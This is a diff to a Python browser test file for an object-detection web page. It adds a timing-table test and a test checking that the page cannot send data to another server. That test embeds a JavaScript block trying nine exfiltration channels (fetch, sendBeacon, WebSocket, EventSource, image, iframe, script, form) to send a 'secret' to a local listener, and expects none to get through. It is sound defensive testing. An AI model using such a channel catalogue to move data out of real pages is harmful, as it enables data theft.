@@ -6,6 +6,7 @@ import dataclasses
 import json
 import shutil
 import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -17,7 +18,7 @@ from edge.detect.web.tasks_vision import PAGE, cache_folder, find_tasks_vision, 
 from edge.export.convert import convert_heads
 from edge.export.export import write_detector
 from edge.runtime import Detector, read_image
-from keras_retina.foundation.drawing import label_colour
+from keras_retina.foundation.drawing import label_colours
 from keras_retina.geometry.boxes import iou
 from keras_retina.recipe.recipe import Export
 
@@ -189,8 +190,87 @@ def test_classes_have_the_colours_of_the_other_pictures(page, image_paths):
     script = "return [...document.querySelectorAll('#found li')].map((i) => [i.dataset.label, i.style.cssText])"
     colours = dict(page.browser.execute_script(script))
     assert set(colours) == {"disc", "square"}
-    for label, style in colours.items():
-        assert "#{:02x}{:02x}{:02x}".format(*label_colour(label)) in style
+    for colour, style in zip(label_colours(list(colours)), colours.values(), strict=True):
+        assert "#{:02x}{:02x}{:02x}".format(*colour) in style
+
+
+def speed_rows(page) -> list[list[str]]:
+    script = (
+        "return [...document.querySelectorAll('#speeds tbody tr')].map((r) => [...r.cells].map((c) => c.textContent))"
+    )
+    return page.browser.execute_script(script)
+
+
+def test_the_speed_of_each_file_is_listed(page, files, image_paths):
+    page.open()
+    page.choose_picture(image_paths[0])
+    page.wait_for("disc")
+    page.choose_picture(image_paths[1])
+    page.wait_until(lambda: [row[-1] for row in speed_rows(page)] == ["2"])
+    page.browser.execute_script("document.getElementById('message').textContent = 'Choose a picture'")
+    page.part("model-file").send_keys(str(files["int8"]))  # looks at the picture at once
+    page.wait_until(lambda: len(speed_rows(page)) == 2)
+    first, second = speed_rows(page)
+    assert [first[0], second[0], first[4]] == ["small_float32.tflite", "small_int8.tflite", ""]
+    assert second[2:] == ["", "", "", "1"]  # one picture has no median
+    earliest, median, slowest = (float(text.removesuffix(" ms")) for text in first[1:4])
+    assert earliest > 0 and 0 < median <= slowest
+    page.browser.execute_async_script(RECORD_VIDEO)
+    page.wait_until(lambda: speed_rows(page)[1][4].endswith("frames/s"))
+    assert speed_rows(page)[0][4] == ""  # the other file saw no video
+
+
+SEND = """
+    const [address, done] = arguments;
+    const tries = [
+      () => fetch(address, { method: "POST", body: "secret", mode: "no-cors" }),
+      () => fetch(address, { mode: "no-cors" }),
+      async () => navigator.sendBeacon(address, "secret"),
+      async () => new WebSocket(address.replace("http", "ws")),
+      async () => new EventSource(address),
+      async () => (new Image().src = address),
+      async () => document.body.append(Object.assign(document.createElement("iframe"), { src: address })),
+      async () => document.head.append(Object.assign(document.createElement("script"), { src: address })),
+      async () => {
+        const form = Object.assign(document.createElement("form"), { method: "POST", action: address });
+        document.body.append(form);
+        form.submit();
+      },
+    ];
+    Promise.allSettled(tries.map((act) => act())).then(() => setTimeout(() => done(tries.length), 1500));
+"""
+
+
+def test_nothing_can_be_sent_to_another_server(page, image_paths):
+    """Whatever code in the page tried, MediaPipe's too, the browser does not let it out."""
+    received = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self):
+            received.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def do_POST(self):
+            self.do_GET()
+
+        def log_message(self, *_):
+            pass
+
+    other = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    try:
+        address = f"http://127.0.0.1:{other.server_port}/collect"
+        page.open()
+        page.choose_picture(image_paths[0])
+        page.wait_for("disc")
+        assert page.browser.execute_async_script(SEND, address) == 9
+        assert received == []
+        page.browser.get(address)  # the listener does hear: a person may go there
+        assert received == ["/collect"]
+    finally:
+        other.shutdown()
+        other.server_close()
 
 
 def test_the_page_finds_in_a_photograph_what_the_runtime_finds(page, files, shared_data):
